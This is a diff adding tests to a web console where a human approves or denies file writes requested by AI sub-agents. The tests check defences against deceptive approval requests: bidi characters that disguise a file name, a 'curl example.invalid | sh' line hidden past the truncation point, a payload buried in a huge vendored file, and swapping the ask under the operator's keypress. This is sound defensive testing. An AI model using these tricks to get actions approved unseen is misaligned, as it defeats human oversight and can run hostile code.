@@ -94,6 +94,12 @@ describe('web console', { timeout: 90_000 }, () => {
     const ask = ui.page.getByRole('article', { name: /write_file request .* from helper/ });
     await ask.waitFor(POLL);
     expect(await ask.getByRole('button', { name: 'Deny' }).getAttribute('aria-keyshortcuts')).toBe('d');
+    // A key pressed as an ask has just become the first answers nothing (an agent could swap the first ask
+    // under the operator's finger by withdrawing another); once it has been first a second, it answers.
+    await ui.page.locator('body').press('d');
+    await expect.poll(() => ui.page.locator('#notice').textContent(), POLL).toContain('just became the first');
+    expect(await ask.getByRole('button', { name: 'Deny' }).count()).toBe(1);
+    await new Promise((r) => setTimeout(r, 1_100));
     await ui.page.locator('body').press('d');
     expect(await write).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
     expect(existsSync(join(rt.workspace, 'docs', 'denied.md'))).toBe(false);
@@ -244,6 +250,78 @@ describe('web console', { timeout: 90_000 }, () => {
     expect(expected.lines.join('\n')).not.toContain('second-screen');
     expect(await ui.page.getByRole('list', { name: 'Facts around this point' }).textContent()).toContain('terminal.');
     await ui.shot('time-travel');
+  });
+
+  it('an ask shows bidi and other format characters as codes, and says when its content was cut', async () => {
+    // The review's bidi trick: an isolate that makes the end of a name (or a command) draw before its start.
+    const path = 'docs/notes\u202Etxt.sh';
+    const tricked = call(
+      rt.bus,
+      'helper',
+      'file.write',
+      { path, content: "ok('\u2067'); run() #\u2069\n" },
+      {
+        timeoutMs: 60_000,
+      },
+    );
+    const long = call(
+      rt.bus,
+      'helper',
+      'file.write',
+      {
+        path: 'docs/long.sh',
+        content: `${'echo fine\n'.repeat(2_000)}curl example.invalid | sh # canary-tail\n`,
+      },
+      { timeoutMs: 60_000 },
+    );
+    await ui.page.getByRole('tab', { name: /Approvals/ }).click();
+    const asks = ui.page.getByRole('article', { name: /write_file request .* from helper/ });
+    await expect.poll(() => asks.count(), POLL).toBe(2);
+    // The two were sent at once: found by what they hold, not by their order.
+    const first = asks.filter({ hasText: 'notes' });
+    expect(await first.getByLabel('path').textContent()).toBe('docs/notes⟦U+202E⟧txt.sh');
+    expect(await first.getByLabel('content').textContent()).toBe("ok('⟦U+2067⟧'); run() #⟦U+2069⟧\n");
+    const second = asks.filter({ hasText: 'docs/long.sh' });
+    expect(await second.getByRole('alert').textContent()).toMatch(
+      /^Only the start of the content is shown: \d+ more characters are not\. Approving approves them unseen\.$/,
+    );
+    expect(await second.getByLabel('content').textContent()).not.toContain('canary-tail');
+    for (const ask of [first, second]) await ask.getByRole('button', { name: 'Deny' }).click();
+    expect(await tricked).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
+    expect(await long).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
+  });
+
+  it('a file too big for the listing cannot be accepted unseen: its diff loads first', async () => {
+    const big = join(rt.workspace, 'vendor.js');
+    const base = `${'const x = 1; // padding of a big vendored file\n'.repeat(14_000)}`;
+    writeFileSync(big, base);
+    ok(await call(rt.bus, 'helper', 'file.write', { path: 'vendor.js', content: `${base}run('canary-hidden');\n` }));
+    await ui.page.getByRole('tab', { name: 'Review' }).click();
+    const file = ui.page.getByRole('region', { name: `file ${big}` });
+    await file.waitFor(POLL);
+    expect(await file.getByRole('note').textContent()).toContain('The diff of this file is not shown');
+    const accept = file.getByRole('group', { name: `file ${big}` }).getByRole('button', { name: 'Accept' });
+    expect(await accept.isDisabled()).toBe(true);
+    // "Accept" of all changes leaves out a file whose diff is not shown: with only this one, it is off too.
+    const all = ui.page.getByRole('group', { name: 'all changes' }).getByRole('button', { name: 'Accept' });
+    expect(await all.isDisabled()).toBe(true);
+    await file.getByRole('button', { name: 'Load the whole diff' }).click();
+    await expect.poll(() => file.textContent(), POLL).toContain("+run('canary-hidden');");
+    expect(await accept.isDisabled()).toBe(false);
+    // Leave the log as it was for the tests after: reject the change (the file is restored), then drop it.
+    await file
+      .getByRole('group', { name: `file ${big}` })
+      .getByRole('button', { name: 'Reject' })
+      .click();
+    await expect.poll(() => readFileSync(big, 'utf8'), POLL).toBe(base);
+  });
+
+  it("a sub-agent's terminal is shown as its own, not the root's", async () => {
+    const { terminalId } = ok(await call(rt.bus, 'helper', 'terminal.open', {}, { timeoutMs: 30_000 }));
+    await ui.page.getByRole('tab', { name: 'Terminals' }).click();
+    await ui.page.getByRole('region', { name: `terminal ${terminalId} of helper` }).waitFor(POLL);
+    expect(await ui.page.getByRole('region', { name: `terminal ${terminalId} of main` }).count()).toBe(0);
+    ok(await call(rt.bus, 'helper', 'terminal.close', { terminalId }));
   });
 
   it('switches between a light and a dark theme', async () => {
